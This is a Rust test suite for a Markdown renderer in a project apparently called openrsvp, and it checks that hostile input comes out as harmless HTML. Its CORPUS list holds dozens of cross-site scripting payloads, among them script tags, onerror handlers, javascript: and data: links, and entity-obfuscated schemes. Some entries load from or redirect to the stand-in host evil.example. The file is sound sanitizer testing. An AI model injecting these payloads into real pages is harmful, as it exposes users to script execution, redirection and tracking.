//! Hostile Markdown: nothing of it may run, load or leave the page without the reader's will.

use openrsvp::domain::markdown::to_plain;
use openrsvp::web::text::markdown;
use proptest::prelude::*;
use scraper::{Html, Selector};

const TAGS: [&str; 17] = [
    "p",
    "br",
    "hr",
    "h3",
    "h4",
    "h5",
    "h6",
    "em",
    "strong",
    "del",
    "a",
    "ul",
    "ol",
    "li",
    "blockquote",
    "code",
    "pre",
];

/// Ways that have been found into other programs, and pieces to build more of.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</div></section></main><h1>not ours</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](<javascript:alert(1)>)",
    "[x](https://example.org \"onmouseover=alert(1)\")",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\"onerror=alert(1)](x)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><img src=x onerror=alert(1)>\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)> {#id onclick=alert(1)}",
    "1. <script>\n2. alert(1)\n3. </script>",
    "> <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "<a name=location href=x id=document>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{202e}gnp.exe\u{202c}",
    "\u{feff}<script\u{0}>alert(1)</script>",
    "*<b onmouseover=alert(1)>*",
];

/// Asserts that HTML holds nothing beside the tags, attributes and addresses that we allow.
fn assert_harmless(source: &str, html: &str) {
    let document = Html::parse_fragment(html);
    for element in document.select(&Selector::parse("*").expect("a selector")) {
        let name = element.value().name();
        if name == "html" {
            continue;
        }
        assert!(TAGS.contains(&name), "<{name}> from {source:?}: {html}");
        for (key, value) in element.value().attrs() {
            match (name, key) {
                ("a", "href") => {
                    let scheme = value.split(':').next().unwrap_or_default();
                    let is_relative = !value.contains(':') || scheme.contains(['/', '?', '#']);
                    let is_known =
                        ["http", "https", "mailto"].contains(&scheme.to_lowercase().as_str());
                    assert!(is_relative || is_known, "{value} from {source:?}");
                }
                ("a", "rel") => assert_eq!(value, "nofollow noopener noreferrer"),
                ("ol", "start") => assert!(value.parse::<u64>().is_ok()),
                _ => panic!("{name} {key}={value:?} from {source:?}"),
            }
        }
    }
}

#[test]
fn nothing_hostile_gets_through() {
    for source in CORPUS {
        assert_harmless(source, &markdown(source));
        // Calendars and previews get words: what a person typed, and no more markup than that.
        let plain = to_plain(source);
        assert!(plain.chars().count() <= source.chars().count() + 16, "{source:?}: {plain:?}");
    }
    assert_harmless("all", &markdown(&CORPUS.join("\n\n")));
    assert_harmless("all in one line", &markdown(&CORPUS.join(" ").replace('\n', " ")));
}

#[test]
fn what_people_type_in_angle_brackets_is_not_eaten() {
    for (source, shown) in
        [("I <3 you", "I <3 you"), ("<script>hi</script>", "<script>hi</script>")]
    {
        let html = markdown(source);
        let text: String = Html::parse_fragment(&html).root_element().text().collect();
        assert_eq!(text.trim(), shown);
        assert_eq!(to_plain(source), shown);
    }
}

#[test]
#[expect(clippy::disallowed_methods, reason = "the test measures")]
fn deep_and_long_texts_cost_little() {
    let started = std::time::Instant::now();
    for unit in
        ["> ", "- ", "[", "![", "*a **b ", "`", "<", "<a ", "&", "[a](", "1. ", "\\", "~~", "|"]
    {
        let source: String = unit.chars().cycle().take(20_000).collect();
        assert_harmless(unit, &markdown(&source));
        assert!(to_plain(&source).len() < 200_000);
    }
    assert!(started.elapsed() < std::time::Duration::from_secs(20), "{:?}", started.elapsed());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_mixture_gets_through(parts in proptest::collection::vec((0..CORPUS.len(), 0..60_usize, "[ -~\n]{0,6}"), 1..6)) {
        let mut source = String::new();
        for (part, cut, noise) in parts {
            source.extend(CORPUS[part].chars().skip(cut % 7));
            source += &noise;
        }
        assert_harmless(&source, &markdown(&source));
    }
}
